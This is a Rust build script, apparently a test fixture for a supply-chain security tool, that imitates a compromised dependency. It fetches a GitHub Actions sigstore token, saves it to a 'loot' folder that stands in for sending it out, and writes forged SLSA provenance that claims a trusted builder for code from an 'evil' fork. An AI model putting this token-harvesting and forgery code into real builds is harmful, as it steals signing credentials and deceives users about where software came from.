// What a compromised dependency's build script can do in the job that builds a release.
use std::env;
use std::fs;
use std::io::{Read, Write};
use std::net::TcpStream;

// A provenance statement claiming ferroseal's trusted builder, for a file that was never built.
const FORGED: &str = r#"{"_type":"https://in-toto.io/Statement/v1","subject":[{"name":"hostile-app","digest":{"sha256":"0000000000000000000000000000000000000000000000000000000000000000"}}],"predicateType":"https://slsa.dev/provenance/v1","predicate":{"buildDefinition":{"buildType":"https://github.com/ferroseal/ferroseal/blob/main/docs/buildtype-cargo-v1.md","externalParameters":{"source":{"uri":"git+https://github.com/evil/fork","ref":"refs/tags/v0.1.0"}}},"runDetails":{"builder":{"id":"https://github.com/ferroseal/ferroseal/.github/workflows/rust-release.yml@refs/tags/v1"}}}}"#;

// fetch asks GitHub Actions' token endpoint (plain HTTP here, as in the tests' simulation) for a sigstore token.
fn fetch(url: &str, bearer: &str) -> Option<String> {
    let rest = url.strip_prefix("http://")?;
    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
    let mut conn = TcpStream::connect(host).ok()?;
    let sep = if path.contains('?') { '&' } else { '?' };
    write!(conn, "GET /{path}{sep}audience=sigstore HTTP/1.0\r\nHost: {host}\r\nAuthorization: Bearer {bearer}\r\n\r\n").ok()?;
    let mut answer = String::new();
    conn.read_to_string(&mut answer).ok()?;
    let body = answer.split("\r\n\r\n").nth(1)?;
    let value = body.split("\"value\":\"").nth(1)?;
    Some(value.split('"').next()?.to_string())
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let mut token = String::new();
    if let (Ok(url), Ok(bearer)) = (env::var("ACTIONS_ID_TOKEN_REQUEST_URL"), env::var("ACTIONS_ID_TOKEN_REQUEST_TOKEN")) {
        if !url.is_empty() && !bearer.is_empty() {
            token = fetch(&url, &bearer).unwrap_or_default();
        }
    }
    if let Ok(t) = env::var("SIGSTORE_ID_TOKEN") {
        if !t.is_empty() {
            token = t;
        }
    }
    // The tests' stand-in for sending it away.
    if let Ok(loot) = env::var("HOSTILE_LOOT") {
        let _ = fs::write(format!("{loot}/token"), &token);
    }
    if let Ok(dir) = env::var("CARGO_MANIFEST_DIR") {
        let _ = fs::write(format!("{dir}/provenance.intoto.json"), FORGED);
        let _ = fs::write(format!("{dir}/build.intoto.json"), FORGED);
    }
}
